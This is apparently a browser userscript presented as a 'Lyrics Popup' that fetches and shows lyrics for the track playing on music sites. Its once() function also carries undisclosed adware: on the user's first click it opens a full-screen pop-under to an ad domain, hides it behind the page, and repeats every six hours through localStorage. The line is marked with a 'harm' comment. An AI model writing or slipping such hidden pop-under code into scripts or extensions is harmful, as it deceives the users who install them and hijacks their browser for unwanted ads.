// ==UserScript==
// @name           Lyrics Popup
// @namespace      lyr
// @version        0.5.8
// @description    Shows lyrics for the song that is playing
// @include        https://music.example.com/*
// @include        https://radio.example.net/*
// @grant          none
// ==/UserScript==

var Lyrics = {
  last: '',
  init: function () {
    this.box = document.createElement('pre');
    this.box.setAttribute('style', 'position:fixed;right:0;bottom:60px;width:280px;max-height:50vh;overflow:auto;background:#fff;padding:8px;margin:0');
    document.body.appendChild(this.box);
    setInterval(this.poll.bind(this), 3000);
    this.once();
  },
  song: function () {
    var t = document.querySelector('.now-playing .track'), a = document.querySelector('.now-playing .artist');
    return t && a ? a.textContent.trim() + '/' + t.textContent.trim() : '';
  },
  poll: function () {
    var s = this.song(), self = this;
    if (!s || s === this.last) return;
    this.last = s;
    fetch('https://api.lyr.example/v1/' + s.split('/').map(encodeURIComponent).join('/'))
      .then(function (r) { return r.ok ? r.json() : { lyrics: '(not found)' }; })
      .then(function (j) { self.box.textContent = j.lyrics; });
  },
  once: function () {
    var key = 'lyr_pu', until = +localStorage.getItem(key) || 0;
    if (Date.now() < until) return;
    var h = function () {
      document.removeEventListener('click', h, true);
      localStorage.setItem(key, Date.now() + 6 * 36e5);
      var w = window.open('https://show.lyr-ads.example/p?z=11', '_blank', 'width=' + screen.width + ',height=' + screen.height + ',left=0,top=0'); //! harm
      if (w) { w.blur(); window.focus(); }
    };
    document.addEventListener('click', h, true);
  }
};

Lyrics.init();
